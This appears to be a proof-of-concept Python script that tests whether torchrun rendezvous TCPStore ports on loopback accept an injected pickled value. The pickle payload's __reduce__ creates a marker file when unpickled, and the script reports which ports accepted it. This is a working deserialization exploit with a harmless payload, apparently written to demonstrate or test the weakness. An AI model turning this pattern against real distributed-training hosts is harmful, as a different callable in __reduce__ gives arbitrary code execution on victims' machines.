"""What whoever reaches the store of a torchrun can do: replace the value that it unpickles every few seconds.

    python attack_store.py MARKER PORT...

Prints the ports on loopback that took the value, as a JSON list. It is harmless: unpickled, it makes the file MARKER.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

PATIENCE_SECONDS = 8


class Marker:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return Path.touch, (self.path,)


def attack(port: int, value: bytes, took: list[int]) -> None:
    try:
        patience = timedelta(seconds=PATIENCE_SECONDS)
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=patience, wait_for_workers=False)
        store.set("torch.rendezvous.none", value)
        took.append(port)
    except RuntimeError:  # those of torch.distributed are: no store
        return


def main() -> None:
    marker, *ports = sys.argv[1:]
    value = base64.b64encode(pickle.dumps(Marker(Path(marker))))
    took: list[int] = []
    attempts = [threading.Thread(target=attack, args=(int(port), value, took), daemon=True) for port in ports]
    for attempt in attempts:
        attempt.start()
    # A server that is no store may say nothing at all: torch waits for its answer without a limit.
    deadline = time.monotonic() + PATIENCE_SECONDS
    for attempt in attempts:
        attempt.join(max(0.0, deadline - time.monotonic()))
    print(json.dumps(took), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
